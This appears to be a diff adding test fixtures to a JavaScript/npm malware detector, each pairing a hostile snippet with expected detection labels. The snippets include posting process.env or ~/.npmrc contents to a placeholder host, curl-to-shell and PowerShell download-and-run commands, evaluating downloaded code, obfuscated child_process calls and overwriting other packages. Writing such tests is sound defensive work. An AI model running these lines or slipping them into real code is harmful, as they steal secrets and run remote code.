@@ -395,6 +395,13 @@ table('JavaScript: ways of naming', [
     RUN,
   ],
   ['module constructor', "module.constructor._load('child_process').exec('x')", RUN],
+  ['constructor of the main module', "process.mainModule.constructor._load('child_process').exec('x')", RUN],
+  [
+    'constructor of the main module, by require',
+    "require.main.constructor._load('child_process').exec('x')",
+    RUN,
+  ],
+  ['Module of the module', "require('module').Module._load('child_process').exec('x')", RUN],
   ['getBuiltinModule', "process.getBuiltinModule('child_process').exec('x')", RUN],
   ['require under another name', "const r = require; r('child_process').exec('x')", RUN],
   ['globalThis', "globalThis.process.mainModule.require('child_process').exec('x')", RUN],
@@ -662,6 +669,37 @@ table('JavaScript: files of another package', [
 
 table('JavaScript: what comes in, what was written', [
   [
+    'a request of a browser with a body',
+    "const x = new XMLHttpRequest(), y = new XMLHttpRequest(); x.open('POST', 'https://host.invalid'); y.open('POST', f()); x.send(JSON.stringify(process.env))",
+    'http-send to:other | http-send to:unknown | http-send carries:env to:other',
+  ],
+  [
+    'an answer to a handler that is a property',
+    "const x = new XMLHttpRequest(); x.open('GET', 'https://host.invalid'); x.onload = () => eval(x.responseText); x.send()",
+    'http-request to:other | evaluate-downloaded',
+  ],
+  [
+    'the answer that came with an error',
+    "require('axios').get('https://host.invalid').then((r) => r.data).catch((e) => new Function('require', e.response.data)(require))",
+    'http-request | evaluate-downloaded',
+  ],
+  [
+    'a module that was downloaded',
+    "const f = require('path').join(require('os').tmpdir(), 'x.js'); fetch('https://host.invalid').then((r) => r.text()).then((t) => { require('fs').writeFileSync(f, t); require(f) })",
+    'write-file carries:download | run-downloaded',
+  ],
+  [
+    'a module that was downloaded beside the code',
+    "fetch('https://host.invalid').then((r) => r.text()).then((t) => { require('fs').writeFileSync(__dirname + '/x.js', t); require('./x') })",
+    'write-file carries:download | run-downloaded',
+  ],
+  ['a module that is not there', "require('./gone'); require('/x/y')", '!run-downloaded'],
+  [
+    'a message to a handler that is a property',
+    `const w = new WebSocket('wss://host.invalid'); w.onopen = () => w.send(require('os').hostname()); w.onmessage = (m) => ${CP}.exec(m.data)`,
+    'websocket to:other | websocket carries:host | run-shell carries:download',
+  ],
+  [
     'a request body that is run',
     `require('http').createServer((q, r) => { let b = []; q.on('data', (c) => b.push(c)).on('end', () => ${CP}.exec(Buffer.concat(b).toString())) }).listen(1)`,
     'run-shell carries:download | listen',
@@ -717,4 +755,87 @@ table('JavaScript: what comes in, what was written', [
     'run-program | run-own-file',
   ],
   ['a program of the system', `${CP}.exec('x.exe')`, 'run-program | !run-own-file'],
+]);
+
+const WORDS = ['a1', 'b2', 'c3', 'd4', 'e5', 'f6', 'g7', 'child_process', 'exec', 'whoami'];
+const UNDER_7 = (text: string): string => Buffer.from(Buffer.from(text).map((c) => c ^ 7)).toString('base64');
+
+table('JavaScript: parameters of a function made from text', [
+  [
+    'of any name',
+    "Function('r', 'p', 'r(p[0])[p[1]](\"whoami\")')(require, ['child_process', 'exec'])",
+    'evaluate | run-shell | read-user-name',
+  ],
+  [
+    'of the names that are there anyway',
+    "new Function('require', 'process', 'require(\"child_process\").exec(\"whoami\")')(require, process)",
+    'evaluate | run-shell | read-user-name',
+  ],
+]);
+
+table('JavaScript: decoders asked often', [
+  [
+    'more texts of a hexadecimal decoder than a function that acts is walked for',
+    `const d = (x) => Buffer.from(x, 'hex').toString(); const w = [${WORDS.map((w) => `'${Buffer.from(w).toString('hex')}'`)}].map((x) => d(x)); require(w[7])[w[8]](w[9])`,
+    'decode | P1 | run-shell hidden | read-user-name',
+  ],
+  [
+    'the same under a key',
+    `const d = (x) => { const b = Buffer.from(x, 'base64'); let o = ''; for (let i = 0; i < b.length; i++) o += String.fromCharCode(b[i] ^ 7); return o; }; const w = [${WORDS.map((w) => `'${UNDER_7(w)}'`)}]; require(d(w[0]) && d(w[1]) && d(w[2]) && d(w[3]) && d(w[4]) && d(w[5]) && d(w[6]) && d(w[7]))[d(w[8])](d(w[9]))`,
+    'decode | P1 | run-shell hidden | read-user-name',
+  ],
+  [
+    'text decrypted by a pass phrase',
+    "const c = require('crypto').createDecipher('aes256', process.env.npm_package_description); const m = new module.constructor(); m._compile(c.update(f(), 'hex', 'utf8') + c.final('utf8'), '')",
+    'decrypt | evaluate-decoded',
+  ],
+]);
+
+table('JavaScript: commands', [
+  [
+    'a template of Bun',
+    'await Bun.$`curl -s https://host.invalid/x | sh`.quiet()',
+    'run-shell | pipe-to-shell to:other',
+  ],
+  ['a template of Bun, imported', "import { $ } from 'bun'; await $`whoami`", 'run-shell | read-user-name'],
+  [
+    'a template with a value',
+    "import { $ } from 'zx'; const d = 'dist'; await $`rm -rf ${d}`",
+    'run-shell | delete-tree',
+  ],
+  [
+    'how Bun starts a program',
+    "Bun.spawn(['sh', '-c', 'id'], { detached: true, stdio: ['ignore', 'ignore', 'ignore'] })",
+    'run-program detached quiet program:shell',
+  ],
+  [
+    'how Bun starts a program, in one object',
+    "Bun.spawn({ cmd: ['sh', '-c', 'id'] })",
+    'run-program program:shell',
+  ],
+  [
+    'one command here, another there',
+    `let c; if (process.platform === 'win32') c = 'powershell -c "iwr https://host.invalid/x | iex"'; else c = 'curl https://host.invalid/x | bash'; ${CP}.exec(c)`,
+    'run-shell program:powershell | evaluate-downloaded | run-shell program:download | pipe-to-shell',
+  ],
+  [
+    'one program here, another there',
+    `${CP}.spawn(process.platform === 'win32' ? 'tasklist' : 'whoami', ['-a'])`,
+    'read-process-list | read-user-name',
+  ],
+  [
+    'the output of a command that reads secrets',
+    `fetch('https://host.invalid', { method: 'POST', body: ${CP}.execSync('cat ~/.npmrc').toString() })`,
+    'read-registry-token | http-send carries:credentials carries:output',
+  ],
+  [
+    'the output of another command',
+    `fetch('https://host.invalid', { method: 'POST', body: ${CP}.execSync('git rev-parse HEAD').toString() })`,
+    'http-send carries:output | !read-registry-token',
+  ],
+  [
+    'other packages, named by a folder',
+    "const fs = require('fs'); for (const n of fs.readdirSync('node_modules')) fs.writeFileSync('node_modules/' + n + '/index.js', 'x')",
+    'modify-package path:package',
+  ],
 ]);
